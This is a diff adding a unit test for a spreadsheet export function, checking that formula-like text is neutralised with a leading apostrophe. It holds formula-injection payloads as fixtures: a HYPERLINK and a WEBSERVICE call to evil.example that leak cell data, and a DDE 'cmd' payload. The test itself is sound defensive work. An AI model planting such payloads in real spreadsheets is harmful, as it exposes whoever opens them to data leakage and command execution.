@@ -115,4 +115,36 @@ describe('figuresXlsx', () => {
     const cell = rowsOf(ws).find((r) => r[0] === 1)![1] as string;
     expect(cell).toBe(HOSTILE_ITEM.normalize('NFC').replace('\u0007', ''));
   });
+
+  it('writes formula-like text as inert strings with a leading apostrophe, and never a formula cell', async () => {
+    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm")', '+1+1', '-2+3', '@SUM(A1)', '\tx', '\rx'];
+    const report = fixtureReport();
+    const rows = report.tables.lienThong.rows;
+    hostile.forEach((h, i) => {
+      rows[i % rows.length].ten = h;
+    });
+    // An object smuggled in where a value belongs would be a live formula cell in exceljs.
+    (rows[0] as Record<string, unknown>).ten = { formula: 'WEBSERVICE("http://evil.example")' };
+    (rows[1] as Record<string, unknown>).ten = hostile[0];
+    const wb = await loadXlsx(
+      await figuresXlsx(report, fixtureTemplate, fixtureOrganization, {
+        approvals: [{ role: '@Chánh Văn phòng', name: '=cmd|" /C calc"!A0', decidedAt: '2025-01-04T09:00:00+07:00' }],
+      }),
+    );
+    const texts: string[] = [];
+    for (const ws of wb.worksheets) {
+      ws.eachRow((row) =>
+        row.eachCell((cell) => {
+          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
+          expect(cell.formula).toBeUndefined();
+          if (typeof cell.value === 'string') texts.push(cell.value);
+        }),
+      );
+    }
+    expect(texts).toContain(`'${hostile[0]}`);
+    expect(texts).toContain(`'=cmd|" /C calc"!A0`);
+    expect(texts).toContain(`'@Chánh Văn phòng`);
+    expect(texts.filter((t) => /^[=+\-@\t\r]/.test(t))).toEqual([]);
+    expect(texts.join('\n')).not.toContain('WEBSERVICE');
+  });
 });
